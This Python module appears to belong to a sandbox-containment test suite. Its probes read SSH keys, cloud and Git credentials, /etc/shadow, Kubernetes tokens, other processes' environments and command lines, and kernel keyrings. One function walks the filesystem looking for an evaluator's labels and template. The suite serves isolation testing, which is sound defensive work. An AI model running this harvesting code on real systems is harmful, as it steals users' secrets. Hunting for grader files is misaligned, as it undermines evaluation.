"""Programs that look for keys, in every place where people keep them."""

from __future__ import annotations

import glob
import os
import pwd
import sys

from attack import attempt, call, given, hostile, loot, out, refuse, uncontained

KEYS = (
    ".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/config", ".aws/credentials", ".azure/accessTokens.json", ".netrc",
    ".config/gcloud/credentials.db", ".kube/config", ".git-credentials", ".gitconfig", ".pypirc", ".npmrc",
    ".config/pip/pip.conf", ".bash_history", ".python_history", ".gnupg/secring.gpg",
    ".local/share/keyrings/login.keyring", ".password-store", ".env", ".config/hub", ".cargo/credentials", ".pgpass",
)  # fmt: skip


def homes():
    """Name every home directory that there could be."""
    return [given("home"), *{entry.pw_dir for entry in pwd.getpwall()}, "/root", *glob.glob("/home/*")]


def try_all(paths):
    """Read each, and print it."""
    for path in paths:
        attempt(path, loot, path)


@hostile("environment", loose=True)
def environment():
    """Prints its environment, and that of every process it can see.

    Contained when no variable of the host's is among them.
    """
    print(dict(os.environ))
    for path in glob.glob("/proc/[0-9]*/environ"):
        if uncontained() and path != f"/proc/{given('victim')}/environ":
            continue
        try:
            loot(path, 65536)
        except OSError:
            continue
    names = ("KEY", "TOKEN", "SECRET", "PASSWORD", "HYPOLOOP", "AWS_", "DOCKER_", "PREFECT", "MLFLOW", "PROXY")
    attempt("telling names", lambda: refuse(not [n for n in os.environ if any(w in n.upper() for w in names)], "none"))


@hostile("files", loose=True)
def keys_in_homes():
    """Reads the files in which people keep keys, in every home directory.

    Contained when none is there.
    """
    try_all(os.path.join(home, key) for home in homes() for key in KEYS if given("home") in home or not uncontained())


@hostile("files", loose=True)
def keys_of_tools():
    """Reads what engines, version control and clusters keep: their settings, tokens and mounted secrets.

    Contained when none is there.
    """
    paths = [os.path.join(given("home"), ".docker/config.json"), os.path.join(given("home"), ".git-credentials")]
    system = ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/gitconfig", "/root/.docker/config.json"]
    system += ["/run/secrets/kubernetes.io/serviceaccount/token", "/etc/kubernetes/admin.conf", "/etc/docker/key.json"]
    system += ["/etc/krb5.keytab", "/etc/ssl/private/ssl-cert-snakeoil.key", "/var/lib/cloud/instance/user-data.txt"]
    try_all(paths + ([] if uncontained() else system + glob.glob("/run/secrets/*")))


@hostile("syscalls")
def keyrings():
    """Reads, adds and asks for keys in the kernel's keyrings, which know no container.

    Contained when the calls are refused and no key is listed.
    """
    attempt("add_key", call, "add_key", b"user", b"hypoloop", b"x", 1, -2)
    attempt("request_key", call, "request_key", b"user", b"hypoloop-none", None, 0)
    attempt("keyctl: session keyring", call, "keyctl", 0, -3, 0)
    attempt("keyctl: read", call, "keyctl", 11, -4, None, 0)

    def listed():
        with open("/proc/keys", encoding="ascii", errors="replace") as file:
            found = file.read(4096)
        refuse(not found.strip(), "empty")
        return found

    attempt("/proc/keys", listed)


@hostile("files", loose=True)
def command_lines():
    """Reads the command lines of all processes, where passwords are given.

    Contained when none of the host's processes is among them.
    """
    seen = 0
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        if uncontained() and path != f"/proc/{given('victim')}/cmdline":
            continue
        with open(path, "rb") as file:
            print(path, file.read(400))
        seen += 1
    attempt("a process of the host", os.stat, f"/proc/{given('victim')}/stat")


@hostile("files", loose=True)
def what_others_left():
    """Looks into the places that are its own for what earlier runs, or others, left there.

    Contained when they are empty, but for the way to its own interpreter.
    """
    mine = {part for prefix in (sys.prefix, sys.base_prefix) for part in prefix.split("/")}

    def found(folder):
        names = sorted(set(os.listdir(folder)) - {"report.json"} - (mine if folder == "/tmp" else set()))
        refuse(not names, "empty")
        return len(names)

    for folder in (out(), "/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue"):
        if os.path.isdir(folder):
            attempt(folder, found, folder)


@hostile("files", loose=True)
def paths_of_the_host():
    """Takes the host's paths that its mount table gives away, and opens them, their parents and their neighbours.

    Contained when none leads anywhere.
    """
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        told = {line.split()[3] for line in file} | {given("decoy"), given("journal"), given("earlier")}
    area = given("decoy").rpartition("/")[0]
    for path in sorted(path for path in told if path.startswith(area) or "docker" in path or "hypoloop" in path):
        attempt(path, os.listdir if os.path.isdir(path) else loot, path)


@hostile("files", loose=True)
def hunt_for_labels():
    """Looks for the evaluator, its labels and its template, where they lie and anywhere else.

    Contained when nothing of them is found.
    """
    for name in ("labels", "template", "journal", "earlier"):
        attempt(name, loot, given(name))
    if uncontained():
        return
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/usr", "/dev")]
        for name in set(files) & {"labels.json", "journal.jsonl", "decoy.txt"}:
            attempt(os.path.join(folder, name), loot, os.path.join(folder, name))
